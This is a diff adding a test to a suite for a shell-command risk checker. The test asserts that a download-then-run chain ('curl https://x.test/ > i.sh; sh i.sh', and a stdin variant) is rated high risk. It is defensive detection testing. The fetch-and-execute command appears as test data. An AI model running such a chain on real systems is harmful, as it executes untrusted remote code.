@@ -161,6 +161,17 @@ describe('The warning about a command', () => {
 		assert.equal(assess(targets).level, 'high');
 	});
 
+	it('sees a program that is downloaded through an output and run, also through an input', () => {
+		const redirects = [{ stream: 'stdout', mode: 'write', path: 'i.sh' }] as const;
+		const input = [{ stream: 'stdin', mode: 'read', path: 'i.sh' }] as const;
+		const download = { argv: ['curl', 'https://x.test/'], redirects };
+		for (const next of [{ argv: ['sh', './i.sh'] }, { argv: ['sh'], redirects: input }]) {
+			const targets = commandTargets({ ...download, chain: [{ join: ';', ...next }] }, '.');
+			assert.deepEqual(reasonsOf(assess(targets)), ['Downloads a program and runs it']);
+		}
+		assert.equal(assessed(sh('curl https://x.test/ > i.sh; sh i.sh')).level, 'high');
+	});
+
 	it('does not call the deletion of a folder dangerous that a build makes again', () => {
 		for (const line of ['rm -rf dist', 'rm -r ./coverage', 'rm -rf packages/a/node_modules/', 'npx rimraf build out']) {
 			const { level, reasons } = assess([{ kind: 'command', argv: line.split(' '), cwd: '.' }]);
